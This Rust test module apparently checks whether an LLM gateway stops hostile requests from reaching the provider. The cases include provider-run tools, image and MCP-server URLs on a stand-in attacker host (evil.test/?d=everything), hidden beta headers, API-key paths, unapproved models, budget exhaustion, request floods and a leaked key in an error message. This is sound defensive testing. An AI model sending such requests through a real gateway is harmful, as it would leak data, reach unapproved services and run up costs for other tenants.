//! The model's door: what would reach out through the provider, and other people's bills.

use std::time::Duration;

use anyhow::Result;
use nightshift_llm_gateway::gateway::budget::RunLimits;
use serde_json::{Value, json};

use crate::{
    case::{Case, Outcome, case},
    stack::{Answer, Options, PROVIDER_KEY, Reply, Run, Stack, question, send},
};

pub(crate) const CASES: &[Case] = &[
    case!(
        7,
        "provider-tool",
        [ModelServerTools],
        "a tool that the provider runs",
        provider_tool
    ),
    case!(
        7,
        "provider-fetch",
        [ModelServerTools],
        "an image that the provider fetches",
        provider_fetch
    ),
    case!(
        7,
        "provider-connector",
        [ModelServerTools, ModelFields],
        "a server that the provider calls",
        connector
    ),
    case!(
        7,
        "unknown-field",
        [ModelFields],
        "a field that nobody knows yet",
        unknown_field
    ),
    case!(
        7,
        "provider-beta",
        [ModelBetas],
        "a beta that opens the provider's own tools",
        provider_beta
    ),
    case!(
        7,
        "other-path",
        [ModelPaths],
        "another path of the provider's API",
        other_path
    ),
    case!(
        50,
        "other-model",
        [ModelList],
        "a model that nobody allowed",
        other_model
    ),
    case!(
        50,
        "over-budget",
        [ModelBudget],
        "asking until somebody else is poor",
        over_budget
    ),
    case!(
        50,
        "many-at-once",
        [ModelRunConcurrency],
        "fifty requests of one run at once",
        many_at_once
    ),
    case!(
        50,
        "many-runs-at-once",
        [ModelTenantConcurrency],
        "all runs of one tenant at once",
        many_runs
    ),
    case!(
        59,
        "echoed-key",
        [ErrorsTyped],
        "a provider that repeats our key in its refusal",
        echoed_key
    ),
];

/// Whether the provider saw the text in what the attacker asked.
async fn reaches_provider(body: Value, mark: &str) -> Result<Outcome> {
    let stack = Stack::start().await?;
    stack.ask(&stack.ours, &question("hello")).await?.honest()?;
    let answer = stack.ask(&stack.ours, &body).await?;
    let seen = stack.upstream.seen();
    let sent = seen.iter().any(|it| it.body.contains(mark));
    Ok(Outcome::of(
        sent,
        format!(
            "{}; the provider was asked {} time(s)",
            answer.brief(),
            seen.len()
        ),
    ))
}

fn with(field: &str, value: Value) -> Value {
    let mut body = question("hello");
    body[field] = value;
    body
}

async fn provider_tool() -> Result<Outcome> {
    let tools = json!([{ "type": "code_execution_20250825", "name": "code_execution" }]);
    reaches_provider(with("tools", tools), "code_execution").await
}

async fn provider_fetch() -> Result<Outcome> {
    let image = json!({ "type": "image", "source": { "type": "url",
        "url": "https://evil.test/?d=everything" } });
    let messages = json!([{ "role": "user", "content": [image] }]);
    reaches_provider(with("messages", messages), "evil.test").await
}

async fn connector() -> Result<Outcome> {
    let servers = json!([{ "type": "url", "url": "https://evil.test/mcp", "name": "x" }]);
    reaches_provider(with("mcp_servers", servers), "evil.test").await
}

async fn unknown_field() -> Result<Outcome> {
    reaches_provider(
        with("web_access", json!({ "url": "https://evil.test" })),
        "evil.test",
    )
    .await
}

async fn provider_beta() -> Result<Outcome> {
    let stack = Stack::start().await?;
    let token = stack.token(&stack.llm, &stack.ours);
    let request = stack
        .llm
        .proved("POST", "/v1/messages", &token)
        .header(
            "anthropic-beta",
            "mcp-client-2025-11-20,interleaved-thinking-2025-05-14",
        )
        .json(&question("hello"));
    send(request).await?.honest()?;
    let seen = stack.upstream.seen();
    let betas = seen[0].headers.get("anthropic-beta").cloned();
    let opened = betas
        .as_ref()
        .is_some_and(|it| it.to_str().is_ok_and(|it| it.contains("mcp-client")));
    Ok(Outcome::of(opened, format!("the provider got {betas:?}")))
}

async fn other_path() -> Result<Outcome> {
    let stack = Stack::start().await?;
    stack.ask(&stack.ours, &question("hello")).await?.honest()?;
    let mut said = String::new();
    for path in [
        "/v1/files",
        "/v1/messages/batches",
        "/v1/organizations/api_keys",
        "/v1/messages/",
    ] {
        let answer = stack.ask_at(path, &stack.ours, &question("hello")).await?;
        if answer.status.is_success() {
            return Ok(Outcome::Succeeded(format!("{path}: {}", answer.brief())));
        }
        said = answer.brief();
    }
    Ok(Outcome::Stopped(said))
}

async fn other_model() -> Result<Outcome> {
    reaches_provider(
        with("model", json!("claude-of-great-price")),
        "of-great-price",
    )
    .await
}

async fn limited(limits: RunLimits) -> Result<Stack> {
    Stack::with(Options {
        limits,
        ..Options::default()
    })
    .await
}

async fn over_budget() -> Result<Outcome> {
    let stack = limited(RunLimits {
        tokens: 5_000,
        ..RunLimits::default()
    })
    .await?;
    stack.upstream.tell(Reply::message("ok", 500, 500));
    stack.ask(&stack.ours, &question("hello")).await?.honest()?;
    let mut asked = 1;
    while asked < 20
        && stack
            .ask(&stack.ours, &question("hello"))
            .await?
            .status
            .is_success()
    {
        asked += 1;
    }
    let used = asked * 1_000;
    Ok(Outcome::of(
        used > 6_000,
        format!("{used} of 5000 tokens used"),
    ))
}

/// Asks with all of these at once and says how many the provider had to answer at the same time.
async fn at_once(stack: &Stack, runs: &[Run]) -> Result<usize> {
    stack.ask(&stack.ours, &question("hello")).await?.honest()?;
    let slow = Reply {
        after: Duration::from_millis(700),
        ..Reply::message("ok", 10, 10)
    };
    stack.upstream.tell(slow);
    let question = question("hello");
    let asking = runs.iter().map(|run| stack.ask(run, &question));
    let answers: Vec<Result<Answer>> = futures_util::future::join_all(asking).await;
    anyhow::ensure!(
        answers
            .iter()
            .any(|it| it.as_ref().is_ok_and(|it| it.status.is_success())),
        "none was answered"
    );
    Ok(stack.upstream.most_open())
}

async fn many_at_once() -> Result<Outcome> {
    let stack = limited(RunLimits::default()).await?;
    let most = at_once(&stack, &vec![stack.ours.clone(); 50]).await?;
    Ok(Outcome::of(most > 4, format!("{most} of 50 at once")))
}

async fn many_runs() -> Result<Outcome> {
    let stack = limited(RunLimits {
        tenant_at_once: 3,
        ..RunLimits::default()
    })
    .await?;
    let (tenant, at) = (stack.ours.status.tenant, stack.ours.status.fired_at);
    let mut runs = Vec::new();
    for key in ["a", "b", "c", "d"] {
        let run = stack.seeds.run(tenant, key, at).await?;
        runs.extend([run.clone(), run]);
    }
    let most = at_once(&stack, &runs).await?;
    Ok(Outcome::of(most > 3, format!("{most} of 8 at once")))
}

async fn echoed_key() -> Result<Outcome> {
    let stack = Stack::start().await?;
    stack.ask(&stack.ours, &question("hello")).await?.honest()?;
    let body = json!({ "type": "error", "error": { "type": "authentication_error",
        "message": format!("invalid x-api-key {PROVIDER_KEY}") } });
    stack.upstream.tell(Reply::json(401, &body));
    let answer = stack.ask(&stack.ours, &question("hello")).await?;
    Ok(Outcome::of(
        answer.text.contains(PROVIDER_KEY),
        answer.brief(),
    ))
}
